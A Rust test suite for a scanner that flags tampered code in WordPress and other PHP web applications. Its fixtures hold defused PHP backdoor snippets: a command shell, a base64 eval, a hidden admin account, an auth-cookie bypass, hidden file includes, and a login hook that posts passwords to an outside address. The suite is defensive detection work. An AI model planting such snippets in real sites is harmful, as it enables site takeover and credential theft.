//! Tests of code that web applications run by themselves.

use calma_testkit::{Mem, check};

/// The fragments have a tilde in the words that matter, so that nothing here can run.
fn inert(text: &str) -> String {
    text.replace('~', "")
}

const ROOT: &str = "/var/www/html";

fn wordpress() -> Mem {
    Mem::new()
        .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n")
        .file(format!("{ROOT}/wp-includes/version.php"), "<?php\n$wp_version = '6.4.2';\n")
        .file(format!("{ROOT}/wp-includes/load.php"), "<?php\nrequire ABSPATH . WPINC . '/x.php'; function wp_x() { eval($a); $_GET['x']; }\n")
        .file(format!("{ROOT}/wp-load.php"), "<?php\nif ( file_exists( ABSPATH . 'wp-config.php' ) ) {\n require_once ABSPATH . 'wp-config.php';\n}\n")
        .file(format!("{ROOT}/index.php"), "<?php\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n")
        .file(format!("{ROOT}/wp-config.php"), "<?php\ndefine( 'DB_NAME', 'x' );\n$table_prefix = 'wp_';\nif ( ! defined( 'ABSPATH' ) ) {\n define( 'ABSPATH', __DIR__ . '/' );\n}\nrequire_once ABSPATH . 'wp-settings.php';\n")
        .directory(format!("{ROOT}/wp-content/uploads/2024"))
}

#[test]
fn odd_code_of_a_site_is_found() {
    for (path, text) in [
        (
            "wp-content/mu-plugins/health.php",
            "<?php\n$u = wp_insert_user(array('user_login' => 'a', 'role' => 'administrator'));",
        ),
        (
            "wp-content/mu-plugins/a.php",
            "<?php add_action('pre_user_query', function ($q) { $q->query_where .= ' AND 1'; strlen('x'); });",
        ),
        ("wp-content/mu-plugins/l.php", "<?php if (isset($_GET['k'])) { wp_set_auth_cookie(1); }"),
        (
            "wp-content/mu-plugins/s.php",
            "<?php add_action('wp_authenticate', function ($u, $pwd) { wp_remote_post('https://192.0.2.1/', array($pwd)); });",
        ),
        ("wp-content/db.php", "<?php ev~al(base64_~decode('c3Ryb25n'));"),
        ("wp-content/object-cache.php", "<?php include '/tmp/.sess';"),
        ("wp-config.php", "<?php\n@include \"\\x2fvar/www/html/wp-content/uploads/a.ico\";\n"),
        ("wp-config.php", "<?php\nrequire_once ABSPATH . 'wp-content/uploads/2024/cfg.php';\n"),
        (
            "index.php",
            "<?php include '/var/www/html/images/logo.png'; require __DIR__ . '/wp-blog-header.php';",
        ),
        ("wp-includes/plugin.php", "<?php include '/dev/shm/p.php';"),
        ("wp-content/uploads/2024/up.php", "<?php move_uploaded_~file($_FI~LES['f']['tmp_name'], 'x');"),
        ("wp-content/uploads/info.phtml", "<?php php~info();"),
        ("wp-content/uploads/2024/mail.php", "<?php ma~il($_POST['to'], 's', $_POST['b']);"),
        ("wp-content/cache/x/i.php", "<?php sys~tem($_GE~T['c']);"),
    ] {
        let path = format!("{ROOT}/{path}");
        let seen = check(wordpress().file(&path, inert(text)));
        let found = seen.alarms("web-application");
        assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
        assert!(format!("{:?}", found[0].subjects).contains(&path));
    }
}

#[test]
fn other_applications_are_known_by_their_files() {
    for (product, files, stray) in [
        (
            "Joomla",
            &["administrator/x.php", "components/x", "modules/x", "plugins/x", "libraries/x"][..],
            "images/x.php",
        ),
        (
            "Drupal",
            &["core/lib/Drupal.php", "sites/default/settings.php", "index.php"],
            "sites/default/files/x.php",
        ),
        ("Magento", &["app/etc/di.xml", "bin/magento", "pub/index.php", "lib/x"], "pub/media/x.php"),
        ("Laravel", &["artisan", "app/x.php", "bootstrap/app.php"], "storage/app/public/x.php"),
        (
            "MediaWiki",
            &["includes/Defines.php", "load.php", "api.php", "mw-config/index.php"],
            "images/a/x.php",
        ),
        ("Roundcube", &["program/include/iniset.php", "skins/x", "plugins/x"], "temp/x.php"),
    ] {
        let host = files
            .iter()
            .fold(Mem::new(), |host, file| host.file(format!("/srv/www/site/{file}"), "<?php // x\n"));
        let path = format!("/srv/www/site/{stray}");
        let seen = check(host.file(&path, "<?php if (isset($_GET['x'])) { file_put_contents('x', 'y'); }"));
        let found = seen.alarms("web-application");
        assert_eq!(found.len(), 1, "{product}: {:#?}", seen.findings);
        assert!(found[0].title.contains(product), "{found:#?}");
    }
}

#[test]
fn ordinary_sites_are_silent() {
    let seen = check(
        wordpress()
            .file(
                format!("{ROOT}/wp-includes/upd.php"),
                "<?php\nif (file_exists(ABSPATH . '.maintenance')) { require ABSPATH . '.maintenance'; }\n",
            )
            .file(format!("{ROOT}/wp-content/uploads/index.php"), "<?php\n// Silence is golden.\n")
            .file(format!("{ROOT}/wp-content/uploads/2024/index.php"), "<?php if (!defined('ABSPATH')) { header('HTTP/1.0 403 Forbidden'); exit; }\n")
            .file(format!("{ROOT}/wp-content/uploads/sec/log.php"), "<?php exit(0); ?>\n{\"a\": 1}\n")
            .file(format!("{ROOT}/wp-content/advanced-cache.php"), "<?php\ndefined( 'ABSPATH' ) || exit;\ndefine( 'WP_ROCKET_ADVANCED_CACHE', true );\n$p = '/srv/x/wp-content/plugins/wp-rocket/';\nif ( ! file_exists( $p . 'vendor/autoload.php' ) ) { return; }\nrequire $p . 'vendor/autoload.php';\ninclude WP_CONTENT_DIR . '/plugins/wp-rocket/inc/process.php';\n")
            .file(format!("{ROOT}/wp-content/object-cache.php"), "<?php\nfunction wp_cache_get($k) { global $wp_object_cache; return $wp_object_cache->get($k); }\n$s = stream_socket_client('tcp://127.0.0.1:6379'); fwrite($s, 'x'); unlink('x');\n")
            .file(format!("{ROOT}/wp-content/mu-plugins/own.php"), "<?php\nadd_filter('xmlrpc_enabled', '__return_false');\nadd_action('init', function () { register_post_type('x'); });\n")
            .file(format!("{ROOT}/wp-content/cache/page/a.php"), "<?php die(); ?>\n<html></html>")
            .file(format!("{ROOT}/wp-content/themes/t/functions.php"), "<?php\nrequire get_template_directory() . '/inc/x.php';\nwp_enqueue_style('x');\n"),
    );
    assert!(seen.by("web-application").is_empty(), "{:#?}", seen.findings);
    assert!(
        seen.facts
            .iter()
            .any(|fact| matches!(fact, calma_record::Fact::WebApplication(row) if row.version == "6.4.2"))
    );
}

#[test]
fn code_that_everybody_may_change_is_low() {
    let path = format!("{ROOT}/index.php");
    let seen = check(wordpress().owned(&path, 0o666, 33, 33));
    assert_eq!(seen.by("web-application").len(), 1);
    assert!(seen.alarms("web-application").is_empty());
}
